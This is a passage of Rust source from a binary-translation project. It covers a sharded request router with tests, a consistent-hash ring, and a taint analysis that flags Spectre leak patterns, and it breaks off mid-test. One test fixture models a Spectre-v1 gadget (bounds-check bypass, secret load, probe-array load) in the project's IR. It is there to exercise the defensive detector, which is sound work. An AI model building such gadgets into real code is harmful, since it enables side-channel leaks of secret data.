    let stream = TcpStream::connect_timeout(&addr, timeout)?;
    stream.set_read_timeout(Some(timeout))?;
    let mut writer = stream.try_clone()?;
    writeln!(writer, "{}", Request::Health.encode())?;
    writer.flush()?;
    let mut line = String::new();
    if BufReader::new(stream).read_line(&mut line)? == 0 {
        return Err(std::io::Error::new(std::io::ErrorKind::UnexpectedEof, "no health answer"));
    }
    Ok(())
}

fn handle_connection(stream: TcpStream, shared: &Shared) {
    let peer = stream
        .peer_addr()
        .map(|addr| addr.ip().to_string())
        .unwrap_or_else(|_| "unknown".to_string());
    let Ok(mut writer) = stream.try_clone() else { return };
    let mut reader = BufReader::new(stream);
    let mut conn = ConnState { peer, authenticated: false, frame_seq: 0 };
    loop {
        let line = match read_frame(&mut reader, shared.config.max_frame_bytes) {
            Frame::Eof => return,
            Frame::TooLong(error) | Frame::Fatal(error) => {
                let frame = Response::Error { op: "invalid".to_string(), error }.encode();
                let _ = writeln!(writer, "{frame}").and_then(|()| writer.flush());
                return;
            }
            Frame::Line(line) => line,
        };
        if line.trim().is_empty() {
            continue;
        }
        let (frame, stop) = shared.respond(&line, &mut conn);
        if writeln!(writer, "{frame}").and_then(|()| writer.flush()).is_err() {
            return;
        }
        if stop {
            shared.begin_shutdown();
            return;
        }
    }
}

/// Handle on a running router: address, shutdown, join.
pub struct RouterHandle {
    shared: Arc<Shared>,
    acceptor: JoinHandle<()>,
    prober: JoinHandle<()>,
}

impl RouterHandle {
    /// The address the router actually bound (resolves port `0`).
    pub fn addr(&self) -> SocketAddr {
        self.shared.addr
    }

    /// Asks the router to stop, without waiting. Backends keep running.
    pub fn shutdown(&self) {
        self.shared.begin_shutdown();
    }

    /// Blocks until the router has stopped (acceptor and prober joined).
    pub fn wait(self) {
        let _ = self.acceptor.join();
        let _ = self.prober.join();
    }
}

/// Starts the router on `addr`, fronting `backends` (dbt-serve daemons,
/// in the fleet order that defines shard identity — reordering the list
/// reshuffles shard assignment).
///
/// # Errors
///
/// Propagates the I/O error if the listener cannot bind; rejects an
/// empty backend list.
pub fn serve_router<A: ToSocketAddrs>(
    addr: A,
    backends: Vec<SocketAddr>,
    config: RouterConfig,
) -> std::io::Result<RouterHandle> {
    serve_router_with_clock(addr, backends, config, TraceClock::wall())
}

/// [`serve_router`] with an explicit span clock — determinism tests
/// inject [`TraceClock::scripted`] so stitched span trees are structure-
/// and byte-stable; production uses [`TraceClock::wall`].
///
/// # Errors
///
/// Propagates the I/O error if the listener cannot bind; rejects an
/// empty backend list.
pub fn serve_router_with_clock<A: ToSocketAddrs>(
    addr: A,
    backends: Vec<SocketAddr>,
    config: RouterConfig,
    clock: TraceClock,
) -> std::io::Result<RouterHandle> {
    if backends.is_empty() {
        return Err(std::io::Error::new(
            std::io::ErrorKind::InvalidInput,
            "the router needs at least one backend",
        ));
    }
    let listener = TcpListener::bind(addr)?;
    let metrics = RouterMetrics::new();
    let backends: Vec<Backend> = backends
        .into_iter()
        .enumerate()
        .map(|(index, addr)| {
            let label = index.to_string();
            let forwarded = metrics.registry.counter_with(
                "dbt_router_forwarded_total",
                "Frames forwarded to this backend (relays, replications and fan-outs).",
                &[("backend", &label)],
            );
            let up_gauge = metrics.registry.gauge_with(
                "dbt_router_backend_up",
                "1 while the breaker trusts this backend, 0 while it is considered dead.",
                &[("backend", &label)],
            );
            // Start optimistic: the first probe round or forward corrects us.
            up_gauge.set(1);
            Backend {
                index,
                addr,
                up: AtomicBool::new(true),
                failures: AtomicU32::new(0),
                pool: Mutex::new(Vec::new()),
                forwarded,
                up_gauge,
            }
        })
        .collect();
    let ring = HashRing::new(backends.len(), config.replicas.max(1));
    let shared = Arc::new(Shared {
        backends,
        ring,
        config,
        addr: listener.local_addr()?,
        shutdown: AtomicBool::new(false),
        started: Instant::now(),
        metrics,
        spans: SpanRecorder::new(clock),
        events: EventLog::new(),
        trace_owners: Mutex::new(VecDeque::new()),
        probe_seq: AtomicU64::new(0),
        quotas: Mutex::new(HashMap::new()),
        probe_wake: (Mutex::new(()), Condvar::new()),
    });
    shared.events.log(
        LogLevel::Info,
        "router.lifecycle",
        "listening",
        None,
        &[("addr", &shared.addr.to_string()), ("backends", &shared.backends.len().to_string())],
    );

    let prober = {
        let shared = Arc::clone(&shared);
        std::thread::spawn(move || loop {
            {
                let (lock, cvar) = &shared.probe_wake;
                let guard = lock.lock().expect("probe wake lock");
                let _unused = cvar
                    .wait_timeout(guard, shared.config.probe_interval)
                    .expect("probe wake wait");
            }
            if shared.shutdown.load(Ordering::SeqCst) {
                break;
            }
            shared.probe_all();
        })
    };

    let acceptor = {
        let shared = Arc::clone(&shared);
        std::thread::spawn(move || loop {
            // Same discipline as the daemon's acceptor: check the flag on
            // every iteration so a failed wake-up connection cannot leave
            // us blocked, and back off on persistent accept errors.
            if shared.shutdown.load(Ordering::SeqCst) {
                break;
            }
            let stream = match listener.accept() {
                Ok((stream, _)) => stream,
                Err(_) => {
                    std::thread::sleep(Duration::from_millis(10));
                    continue;
                }
            };
            if shared.shutdown.load(Ordering::SeqCst) {
                break;
            }
            let shared = Arc::clone(&shared);
            std::thread::spawn(move || handle_connection(stream, &shared));
        })
    };

    Ok(RouterHandle { shared, acceptor, prober })
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_serve::{
        serve, Client, LabBackend, ProgramSource, RunKnobs, ServerConfig, ServerHandle,
    };
    use std::sync::atomic::AtomicU64;

    /// A mock daemon backend that tags every answer with its fleet index,
    /// so tests can see which shard served a request.
    struct TagBackend {
        tag: usize,
        uploads: AtomicU64,
    }

    impl TagBackend {
        fn new(tag: usize) -> TagBackend {
            TagBackend { tag, uploads: AtomicU64::new(0) }
        }
    }

    impl LabBackend for TagBackend {
        fn run_scenario(&self, scenario: &str) -> Result<String, String> {
            Ok(format!("tag{} ran {scenario}\n", self.tag))
        }
        fn sweep(&self, name: &str, _threads: usize) -> Result<String, String> {
            Ok(format!("tag{} swept {name}\n", self.tag))
        }
        fn analyze(&self, program: &str) -> Result<String, String> {
            Ok(format!("tag{} analyzed {program}\n", self.tag))
        }
        fn run_program(&self, program: &str, policy: &str, _: &RunKnobs) -> Result<String, String> {
            Ok(format!("tag{} ran {program} under {policy}\n", self.tag))
        }
        fn upload(&self, source: &ProgramSource) -> Result<String, String> {
            let count = self.uploads.fetch_add(1, Ordering::SeqCst) + 1;
            Ok(format!(
                "{{\"fingerprint\": \"fp:{:016x}\", \"dedup\": false, \"count\": {count}}}",
                crate::ring::fnv1a(source.text().as_bytes())
            ))
        }
        fn stats_json(&self) -> String {
            format!(
                "{{\"tag\": {}, \"uploads\": {}}}",
                self.tag,
                self.uploads.load(Ordering::SeqCst)
            )
        }
        fn metrics_text(&self) -> String {
            format!(
                "# HELP dbt_mock_uploads_total Mock uploads.\n\
                 # TYPE dbt_mock_uploads_total counter\n\
                 dbt_mock_uploads_total {}\n",
                self.uploads.load(Ordering::SeqCst)
            )
        }
    }

    /// A fleet of `n` mock daemons plus a router in front of them.
    fn fleet(n: usize, config: RouterConfig) -> (Vec<ServerHandle>, RouterHandle) {
        let daemons: Vec<ServerHandle> = (0..n)
            .map(|tag| {
                serve("127.0.0.1:0", Arc::new(TagBackend::new(tag)), ServerConfig::default())
                    .expect("daemon binds")
            })
            .collect();
        let addrs = daemons.iter().map(ServerHandle::addr).collect();
        let router = serve_router("127.0.0.1:0", addrs, config).expect("router binds");
        (daemons, router)
    }

    fn stop(daemons: Vec<ServerHandle>, router: RouterHandle) {
        router.shutdown();
        router.wait();
        for daemon in daemons {
            daemon.shutdown();
            daemon.wait();
        }
    }

    fn ok_body(response: Response) -> String {
        match response {
            Response::Ok { body, .. } => body,
            other => panic!("expected ok, got {other:?}"),
        }
    }

    #[test]
    fn same_program_lands_on_the_same_shard_and_keys_spread() {
        let (daemons, router) = fleet(2, RouterConfig::default());
        let mut client = Client::connect(router.addr()).unwrap();
        let mut tags_seen = std::collections::BTreeSet::new();
        for i in 0..16 {
            let request = Request::Analyze { program: format!("prog-{i}") };
            let first = ok_body(client.request(&request).unwrap());
            let second = ok_body(client.request(&request).unwrap());
            assert_eq!(first, second, "one program, one shard");
            tags_seen.insert(first.starts_with("tag0"));
        }
        assert_eq!(tags_seen.len(), 2, "16 distinct programs must hit both backends");
        // Ref spellings shard identically: `registry:x` == `x`.
        let bare =
            ok_body(client.request(&Request::Analyze { program: "prog-0".to_string() }).unwrap());
        let prefixed = ok_body(
            client.request(&Request::Analyze { program: "registry:prog-0".to_string() }).unwrap(),
        );
        assert_eq!(
            bare.chars().take(4).collect::<String>(),
            prefixed.chars().take(4).collect::<String>()
        );
        stop(daemons, router);
    }

    #[test]
    fn uploads_replicate_to_every_backend() {
        let (daemons, router) = fleet(3, RouterConfig::default());
        let mut client = Client::connect(router.addr()).unwrap();
        let source = ProgramSource::Asm("li a0, 1\necall\n".to_string());
        let body = ok_body(client.request(&Request::Upload { source }).unwrap());
        assert!(body.contains("\"fingerprint\": \"fp:"), "{body}");
        // Every backend's own stats now count the upload.
        let stats = ok_body(client.request(&Request::Stats).unwrap());
        for tag in 0..3 {
            assert!(stats.contains(&format!("{{\"tag\": {tag}, \"uploads\": 1}}")), "{stats}");
        }
        assert!(stats.contains("\"replications\": 2"), "{stats}");
        stop(daemons, router);
    }

    #[test]
    fn fleet_ops_fan_out_and_merge() {
        let (daemons, router) = fleet(2, RouterConfig::default());
        let mut client = Client::connect(router.addr()).unwrap();

        let stats = ok_body(client.request(&Request::Stats).unwrap());
        assert!(stats.starts_with("{\"router\": {\"backends\": 2, \"up\": 2"), "{stats}");
        assert!(stats.contains("{\"tag\": 0,"), "{stats}");
        assert!(stats.contains("{\"tag\": 1,"), "{stats}");

        let health = ok_body(client.request(&Request::Health).unwrap());
        assert!(
            health.starts_with("{\"router\": {\"backends\": 2, \"up\": 2, \"uptime_secs\": "),
            "{health}"
        );
        assert!(
            health.contains(&format!("\"version\": \"{}\"", env!("CARGO_PKG_VERSION"))),
            "{health}"
        );
        assert!(health.contains("\"up\": true, \"health\": {\"workers\": 2"), "{health}");

        let metrics = ok_body(client.request(&Request::Metrics).unwrap());
        assert!(metrics.contains("dbt_router_requests_total{op=\"stats\"} 1"), "{metrics}");
        assert!(metrics.contains("dbt_mock_uploads_total{backend=\"0\"} 0"), "{metrics}");
        assert!(metrics.contains("dbt_mock_uploads_total{backend=\"1\"} 0"), "{metrics}");
        assert!(
            metrics.contains("dbt_serve_requests_total{backend=\"0\",op=\"stats\"}"),
            "{metrics}"
        );
        stop(daemons, router);
    }

    #[test]
    fn auth_gates_every_op_but_health() {
        let config = RouterConfig {
            auth_tokens: vec!["fleet-secret".to_string()],
            ..RouterConfig::default()
        };
        let (daemons, router) = fleet(2, config);
        let mut client = Client::connect(router.addr()).unwrap();

        // Unauthenticated: denied before any backend sees the frame.
        let denied = client.request(&Request::Stats).unwrap();
        let Response::Error { error, .. } = denied else { panic!("expected denial: {denied:?}") };
        assert!(error.contains("authentication required"), "{error}");
        // Health stays open for probes and monitoring.
        assert!(matches!(client.request(&Request::Health).unwrap(), Response::Ok { .. }));
        // A wrong token is its own error.
        let meta = FrameMeta { auth: Some("wrong".to_string()), ..FrameMeta::default() };
        let (denied, _) = client.request_meta(&Request::Stats, &meta).unwrap();
        let Response::Error { error, .. } = denied else { panic!("expected denial: {denied:?}") };
        assert!(error.contains("invalid auth token"), "{error}");
        // A valid token authenticates the connection...
        let meta = FrameMeta { auth: Some("fleet-secret".to_string()), ..FrameMeta::default() };
        let (reply, _) = client.request_meta(&Request::Stats, &meta).unwrap();
        assert!(matches!(reply, Response::Ok { .. }), "{reply:?}");
        // ...and later frames on it need no token.
        assert!(matches!(client.request(&Request::Stats).unwrap(), Response::Ok { .. }));
        // A fresh connection starts unauthenticated again.
        let mut fresh = Client::connect(router.addr()).unwrap();
        assert!(matches!(fresh.request(&Request::Stats).unwrap(), Response::Error { .. }));
        stop(daemons, router);
    }

    #[test]
    fn quotas_bounce_excess_heavy_requests() {
        let config = RouterConfig {
            quota: Some(QuotaConfig { rate_per_sec: 1, burst: 1 }),
            ..RouterConfig::default()
        };
        let (daemons, router) = fleet(1, config);
        let mut client = Client::connect(router.addr()).unwrap();
        let request = Request::Analyze { program: "prog".to_string() };
        let mut admitted = 0;
        let mut bounced = 0;
        for _ in 0..5 {
            match client.request(&request).unwrap() {
                Response::Ok { .. } => admitted += 1,
                Response::QuotaExceeded { op } => {
                    assert_eq!(op, "analyze");
                    bounced += 1;
                }
                other => panic!("unexpected answer: {other:?}"),
            }
        }
        assert!(admitted >= 1, "the burst token admits the first request");
        assert!(bounced >= 1, "five immediate requests cannot all fit a 1/s, burst-1 quota");
        // Cheap ops never spend tokens.
        for _ in 0..5 {
            assert!(matches!(client.request(&Request::Stats).unwrap(), Response::Ok { .. }));
        }
        stop(daemons, router);
    }

    #[test]
    fn a_dead_backend_fails_over_and_is_circuit_broken() {
        let config = RouterConfig {
            retry_backoff: Duration::from_millis(2),
            probe_interval: Duration::from_secs(3600), // keep the prober out of this test
            ..RouterConfig::default()
        };
        let (mut daemons, router) = fleet(2, config);
        let mut client = Client::connect(router.addr()).unwrap();

        let request = Request::Analyze { program: "victim".to_string() };
        let body = ok_body(client.request(&request).unwrap());
        let owner: usize = if body.starts_with("tag0") { 0 } else { 1 };

        // Kill the owner; the same request must still answer, from the
        // other shard, and the router must count the failover.
        let dead = daemons.remove(owner);
        dead.shutdown();
        dead.wait();
        let body = ok_body(client.request(&request).unwrap());
        assert!(body.starts_with(&format!("tag{}", 1 - owner)), "{body}");
        let metrics = ok_body(client.request(&Request::Metrics).unwrap());
        assert!(metrics.contains("dbt_router_failovers_total 1"), "{metrics}");

        // After `failure_threshold` transport failures the breaker opens:
        // later requests skip the dead backend without new failovers.
        for _ in 0..4 {
            let _ = ok_body(client.request(&request).unwrap());
        }
        let metrics = ok_body(client.request(&Request::Metrics).unwrap());
        let up_line = format!("dbt_router_backend_up{{backend=\"{owner}\"}} 0");
        assert!(metrics.contains(&up_line), "{metrics}");
        stop(daemons, router);
    }

    #[test]
    fn shutdown_stops_the_router_but_not_the_fleet() {
        let (daemons, router) = fleet(2, RouterConfig::default());
        let mut client = Client::connect(router.addr()).unwrap();
        let reply = client.request(&Request::Shutdown).unwrap();
        assert_eq!(
            reply,
            Response::Ok { op: "shutdown".to_string(), body: "{\"stopping\": true}".to_string() }
        );
        router.wait();
        // The daemons are untouched and still answer directly.
        for daemon in &daemons {
            let mut direct = Client::connect(daemon.addr()).unwrap();
            assert!(matches!(direct.request(&Request::Health).unwrap(), Response::Ok { .. }));
        }
        for daemon in daemons {
            daemon.shutdown();
            daemon.wait();
        }
    }

    #[test]
    fn trace_ids_echo_through_relays_and_local_answers() {
        let (daemons, router) = fleet(2, RouterConfig::default());
        let mut client = Client::connect(router.addr()).unwrap();
        // Relayed: the backend echoes the id the client put on the frame.
        let (reply, trace) = client
            .request_traced(&Request::Analyze { program: "p".to_string() }, Some("relay-1"))
            .unwrap();
        assert!(matches!(reply, Response::Ok { .. }));
        assert_eq!(trace.as_deref(), Some("relay-1"));
        // Router-originated: the router echoes it itself.
        let (reply, trace) = client.request_traced(&Request::Stats, Some("local-1")).unwrap();
        assert!(matches!(reply, Response::Ok { .. }));
        assert_eq!(trace.as_deref(), Some("local-1"));
        // And generates deterministic `r<n>` ids when the client sent none.
        let (_, trace) = client.request_traced(&Request::Stats, None).unwrap();
        assert_eq!(trace.as_deref(), Some("r2"));
        stop(daemons, router);
    }

    #[test]
    fn routing_keys_canonicalize_refs_and_scenarios() {
        assert_eq!(normalize_ref("registry:gemm"), "gemm");
        assert_eq!(normalize_ref("gemm"), "gemm");
        assert_eq!(normalize_ref("fp:00ABCDEF0012345f"), "fp:00abcdef0012345f");
        assert_eq!(normalize_ref("fp:nonsense"), "fp:nonsense");
        assert_eq!(scenario_key("figure4/gemm/our-approach/default"), "gemm");
        assert_eq!(scenario_key("no-slashes"), "no-slashes");
        // Scenario runs and program-ref runs of the same program share a key.
        let scenario = route(&Request::Run { scenario: "figure4/gemm/fence/default".to_string() });
        let programref = route(&Request::RunProgram {
            program: "registry:gemm".to_string(),
            policy: "fence".to_string(),
            knobs: RunKnobs::default(),
        });
        match (scenario, programref) {
            (Route::Key(a), Route::Key(b)) => assert_eq!(a, b),
            _ => panic!("both must route by key"),
        }
    }

    #[test]
    fn trace_op_stitches_router_and_backend_spans() {
        let (daemons, router) = fleet(2, RouterConfig::default());
        let mut client = Client::connect(router.addr()).unwrap();
        let (reply, _) = client
            .request_traced(&Request::Analyze { program: "stitched".to_string() }, Some("st-1"))
            .unwrap();
        assert!(matches!(reply, Response::Ok { .. }), "{reply:?}");
        let body = ok_body(client.request(&Request::Trace { target: "st-1".to_string() }).unwrap());
        assert!(
            body.starts_with("{\"schema\": \"dbt-serve/trace/v1\", \"trace_id\": \"st-1\""),
            "{body}"
        );
        // The router's half of the tree...
        assert!(body.contains("\"span_id\": \"r:request\", \"parent\": null"), "{body}");
        assert!(body.contains("\"span_id\": \"r:relay\", \"parent\": \"r:request\""), "{body}");
        // ...and the backend's half, its root reparented under the relay
        // span so the whole request reads as one tree.
        assert!(body.contains("\"span_id\": \"d:request\", \"parent\": \"r:relay\""), "{body}");
        assert!(body.contains("\"span_id\": \"d:decode\""), "{body}");
        assert!(body.contains("\"span_id\": \"d:queue-wait\""), "{body}");
        stop(daemons, router);
    }

    #[test]
    fn logs_op_narrates_failover_events() {
        let config = RouterConfig {
            retry_backoff: Duration::from_millis(2),
            probe_interval: Duration::from_secs(3600), // keep the prober out of this test
            ..RouterConfig::default()
        };
        let (mut daemons, router) = fleet(2, config);
        let mut client = Client::connect(router.addr()).unwrap();
        let request = Request::Analyze { program: "victim".to_string() };
        let body = ok_body(client.request(&request).unwrap());
        let owner: usize = if body.starts_with("tag0") { 0 } else { 1 };
        let dead = daemons.remove(owner);
        dead.shutdown();
        dead.wait();
        let _ = ok_body(client.request(&request).unwrap());

        let logs =
            ok_body(client.request(&Request::Logs { level: Some("warn".to_string()) }).unwrap());
        assert!(logs.starts_with("{\"schema\": \"dbt-serve/logs/v1\""), "{logs}");
        assert!(logs.contains("router.failover"), "{logs}");
        assert!(!logs.contains("router.lifecycle"), "lifecycle is info-level: {logs}");
        // The default level serves everything, lifecycle included.
        let all = ok_body(client.request(&Request::Logs { level: None }).unwrap());
        assert!(all.contains("\"message\": \"listening\""), "{all}");
        // Unknown levels are the client's error, never a panic.
        let denied = client.request(&Request::Logs { level: Some("loud".to_string()) }).unwrap();
        assert!(matches!(denied, Response::Error { .. }), "{denied:?}");
        stop(daemons, router);
    }
}
