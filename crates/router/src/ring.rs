//! The consistent-hash ring that assigns routing keys to backends.
//!
//! Each backend contributes [`DEFAULT_RING_REPLICAS`] virtual points to
//! the ring; a key is owned by the backend whose point follows the key's
//! hash (wrapping). Two properties matter to the router:
//!
//! * **Stability across runs.** Points are derived from the backend's
//!   *index* in the fleet list (`backend-<i>#<r>`), never from its
//!   address — daemons on ephemeral ports get the same shard assignment
//!   every run, which is what makes the scaling benchmark's per-backend
//!   request counts deterministic.
//! * **Stability across resizes.** Growing the fleet from N to N+1
//!   backends moves only the keys that land on the new backend's points
//!   (~1/(N+1) of them); everything else keeps its owner, so a mostly-warm
//!   fleet stays mostly warm.
//!
//! The hash is FNV-1a (64-bit) folded through a murmur-style finalizer.
//! Raw FNV-1a has weak avalanche into the *high* bits for short keys —
//! `key-0` and `key-1` share their top 24 bits, so a ring ordered by the
//! raw hash would pile similar program names onto one shard. The
//! finalizer (`mix64`) spreads every input bit over the whole word,
//! which is what ordering-based consistent hashing actually needs.

/// 64-bit FNV-1a. Deterministic and allocation-free. Good dispersion in
/// the low bits; see `mix64` for why the ring post-processes it.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut hash = 0xcbf2_9ce4_8422_2325u64;
    for &byte in bytes {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// The 64-bit murmur3 finalizer: xor-shift/multiply avalanche rounds
/// that spread every input bit across the whole word. Applied on top of
/// [`fnv1a`] for every ring position, point and key alike.
fn mix64(mut hash: u64) -> u64 {
    hash ^= hash >> 33;
    hash = hash.wrapping_mul(0xff51_afd7_ed55_8ccd);
    hash ^= hash >> 33;
    hash = hash.wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    hash ^= hash >> 33;
    hash
}

/// Virtual points each backend contributes to the ring. 64 points over a
/// handful of backends keeps the largest/smallest shard within a factor
/// of ~2 while the ring stays small enough to rebuild on a whim.
pub const DEFAULT_RING_REPLICAS: usize = 64;

/// The ring: sorted virtual points, each tagged with the index of the
/// backend that owns it.
#[derive(Debug, Clone)]
pub struct HashRing {
    /// `(point hash, backend index)`, sorted by hash.
    points: Vec<(u64, usize)>,
    backends: usize,
}

impl HashRing {
    /// Builds the ring for `backends` backends with `replicas` virtual
    /// points each.
    ///
    /// # Panics
    ///
    /// If `backends` or `replicas` is zero — an empty ring cannot answer
    /// [`HashRing::owner`].
    pub fn new(backends: usize, replicas: usize) -> HashRing {
        assert!(backends >= 1, "the ring needs at least one backend");
        assert!(replicas >= 1, "the ring needs at least one point per backend");
        let mut points = Vec::with_capacity(backends * replicas);
        for backend in 0..backends {
            for replica in 0..replicas {
                points.push((
                    mix64(fnv1a(format!("backend-{backend}#{replica}").as_bytes())),
                    backend,
                ));
            }
        }
        points.sort_unstable();
        HashRing { points, backends }
    }

    /// Number of backends on the ring.
    pub fn backends(&self) -> usize {
        self.backends
    }

    /// Index of the first ring point at or after the key's hash
    /// (wrapping).
    fn start(&self, key: &str) -> usize {
        let hash = mix64(fnv1a(key.as_bytes()));
        self.points.partition_point(|(point, _)| *point < hash) % self.points.len()
    }

    /// The backend that owns `key`.
    pub fn owner(&self, key: &str) -> usize {
        self.points[self.start(key)].1
    }

    /// Every backend exactly once, in ring-walk order from the key's
    /// point: the owner first, then each further backend in the order its
    /// first point appears. This is the router's failover order — as
    /// deterministic as ownership itself.
    pub fn preference(&self, key: &str) -> Vec<usize> {
        let mut order = Vec::with_capacity(self.backends);
        let start = self.start(key);
        for offset in 0..self.points.len() {
            let backend = self.points[(start + offset) % self.points.len()].1;
            if !order.contains(&backend) {
                order.push(backend);
                if order.len() == self.backends {
                    break;
                }
            }
        }
        order
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fnv1a_matches_the_published_vectors() {
        assert_eq!(fnv1a(b""), 0xcbf2_9ce4_8422_2325);
        assert_eq!(fnv1a(b"a"), 0xaf63_dc4c_8601_ec8c);
        assert_eq!(fnv1a(b"foobar"), 0x8594_4171_f739_67e8);
    }

    #[test]
    fn similar_short_keys_do_not_cluster_after_mixing() {
        // The raw FNV-1a hashes of `key-0` and `key-1` share their top
        // 24 bits; mixed, nothing survives above chance.
        let a = mix64(fnv1a(b"key-0"));
        let b = mix64(fnv1a(b"key-1"));
        assert_ne!(a >> 40, b >> 40, "{a:#018x} vs {b:#018x}");
    }

    #[test]
    fn ownership_is_deterministic_and_spreads_keys() {
        let ring = HashRing::new(3, DEFAULT_RING_REPLICAS);
        let again = HashRing::new(3, DEFAULT_RING_REPLICAS);
        let mut owned = [0usize; 3];
        for i in 0..300 {
            let key = format!("key-{i}");
            let owner = ring.owner(&key);
            assert_eq!(owner, again.owner(&key), "ownership is a pure function of the key");
            owned[owner] += 1;
        }
        for (backend, count) in owned.iter().enumerate() {
            assert!(*count > 0, "backend {backend} owns no keys: {owned:?}");
        }
    }

    #[test]
    fn preference_lists_every_backend_starting_with_the_owner() {
        let ring = HashRing::new(4, DEFAULT_RING_REPLICAS);
        for i in 0..50 {
            let key = format!("key-{i}");
            let order = ring.preference(&key);
            assert_eq!(order[0], ring.owner(&key), "the owner comes first");
            let mut sorted = order.clone();
            sorted.sort_unstable();
            assert_eq!(sorted, vec![0, 1, 2, 3], "every backend appears exactly once: {order:?}");
        }
    }

    #[test]
    fn growing_the_fleet_moves_only_a_fraction_of_the_keys() {
        let three = HashRing::new(3, DEFAULT_RING_REPLICAS);
        let four = HashRing::new(4, DEFAULT_RING_REPLICAS);
        let keys: Vec<String> = (0..400).map(|i| format!("key-{i}")).collect();
        let moved = keys.iter().filter(|key| three.owner(key) != four.owner(key)).count();
        // The consistent-hashing contract: only keys landing on the new
        // backend's points move (~1/4 of them); everything else stays put.
        assert!(moved < keys.len() / 2, "{moved} of {} keys moved", keys.len());
        for key in &keys {
            if four.owner(key) != 3 {
                assert_eq!(three.owner(key), four.owner(key), "{key} moved between old backends");
            }
        }
    }

    #[test]
    #[should_panic(expected = "at least one backend")]
    fn empty_rings_are_rejected() {
        let _ = HashRing::new(0, DEFAULT_RING_REPLICAS);
    }
}
