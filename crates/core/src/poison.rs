//! Poisoning (taint) analysis over the block data-flow graph.
//!
//! The rules are exactly those of Section IV-A of the paper:
//!
//! 1. a *speculative instruction* generates a poisoned value — speculative
//!    instructions are loads whose dependency on a preceding conditional
//!    branch (side exit) or on a preceding memory write has been relaxed by
//!    the DBT engine;
//! 2. an instruction that uses a poisoned value as an operand generates a
//!    poisoned value;
//! 3. a speculative memory instruction that uses a poisoned value **as an
//!    address** may leak through the cache side channel — it is a Spectre
//!    pattern and must not be scheduled speculatively.
//!
//! Rule 3 is consumed by [`pattern`](crate::pattern); this module computes
//! rules 1 and 2.

use dbt_ir::{DepGraph, DepKind, InstId, IrBlock, Operand};

/// Why an instruction is considered speculative.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpeculationSource {
    /// The instruction whose ordering constraint was relaxed (a side exit or
    /// a store).
    pub source: InstId,
    /// The kind of the relaxed dependency ([`DepKind::Control`] for branch
    /// speculation, [`DepKind::Memory`] for memory-dependency speculation).
    pub kind: DepKind,
}

/// Result of the poisoning analysis of one block.
#[derive(Debug, Clone)]
pub struct PoisonAnalysis {
    poisoned: Vec<bool>,
    speculative: Vec<Vec<SpeculationSource>>,
}

impl PoisonAnalysis {
    /// Runs the analysis on `block` under the dependency graph `graph`.
    ///
    /// Speculative-ness is read off the graph's *relaxable* edges: an
    /// instruction with a relaxable incoming control or memory edge may be
    /// hoisted above its source by the scheduler, hence is speculative.
    pub fn run(block: &IrBlock, graph: &DepGraph) -> PoisonAnalysis {
        let n = block.len();
        let mut speculative: Vec<Vec<SpeculationSource>> = vec![Vec::new(); n];
        for edge in graph.edges() {
            if edge.relaxable && matches!(edge.kind, DepKind::Control | DepKind::Memory) {
                speculative[edge.to.index()]
                    .push(SpeculationSource { source: edge.from, kind: edge.kind });
            }
        }

        let mut poisoned = vec![false; n];
        // Instructions are in def-before-use order, so one forward pass
        // reaches the fixed point.
        for inst in block.insts() {
            let index = inst.id.index();
            // Rule 1: a speculative load produces a poisoned value.
            if inst.op.is_load() && !speculative[index].is_empty() {
                poisoned[index] = true;
            }
            // Rule 2: poison propagates through data operands.
            if inst.op.operands().iter().any(|operand| match operand {
                Operand::Value(def) => poisoned[def.index()],
                _ => false,
            }) {
                poisoned[index] = true;
            }
        }

        PoisonAnalysis { poisoned, speculative }
    }

    /// Whether the value produced by `id` is poisoned.
    pub fn is_poisoned(&self, id: InstId) -> bool {
        self.poisoned[id.index()]
    }

    /// The speculation sources that make `id` speculative (empty when the
    /// instruction cannot be hoisted).
    pub fn speculation_sources(&self, id: InstId) -> &[SpeculationSource] {
        &self.speculative[id.index()]
    }

    /// Whether `id` may be executed speculatively.
    pub fn is_speculative(&self, id: InstId) -> bool {
        !self.speculative[id.index()].is_empty()
    }

    /// Number of poisoned values in the block.
    pub fn poisoned_count(&self) -> usize {
        self.poisoned.iter().filter(|p| **p).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_ir::{BlockKind, DfgOptions, IrOp, MemWidth};
    use dbt_riscv::inst::AluOp;
    use dbt_riscv::{BranchCond, Reg};

    /// Spectre-v1-shaped block: a bounds-check side exit followed by the two
    /// dependent loads.
    fn v1_block() -> IrBlock {
        let mut b = IrBlock::new(0, BlockKind::Superblock { merged_blocks: 2 });
        let size = b.push(IrOp::Const(16), 0, 0);
        b.push(
            IrOp::SideExit {
                cond: BranchCond::Geu,
                a: Operand::LiveIn(Reg::A0),
                b: Operand::Value(size),
                target: 0x9000,
            },
            4,
            1,
        );
        let buffer = b.push(IrOp::Const(0x3000), 8, 2);
        let addr1 = b.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(buffer), b: Operand::LiveIn(Reg::A0) },
            8,
            2,
        );
        let secret = b.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr1), offset: 0 },
            12,
            3,
        );
        let shifted = b.push(
            IrOp::Alu { op: AluOp::Sll, a: Operand::Value(secret), b: Operand::Imm(7) },
            16,
            4,
        );
        let probe = b.push(IrOp::Const(0x8000), 20, 5);
        let addr2 = b.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(probe), b: Operand::Value(shifted) },
            20,
            5,
        );
        let leak = b.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr2), offset: 0 },
            24,
            6,
        );
        b.push(IrOp::WriteReg { reg: Reg::A1, value: Operand::Value(leak) }, 24, 6);
        b.push(IrOp::Jump { target: 0x28 }, 28, 7);
        b
    }

    #[test]
    fn speculative_loads_are_poisoned() {
        let block = v1_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let analysis = PoisonAnalysis::run(&block, &graph);
        let loads = block.loads();
        assert!(analysis.is_poisoned(loads[0]), "the bounds-bypassing load is poisoned");
        assert!(analysis.is_poisoned(loads[1]), "poison propagates to the probe load");
        assert!(analysis.is_speculative(loads[0]));
        assert!(analysis.is_speculative(loads[1]));
        // The constant and the size are not poisoned.
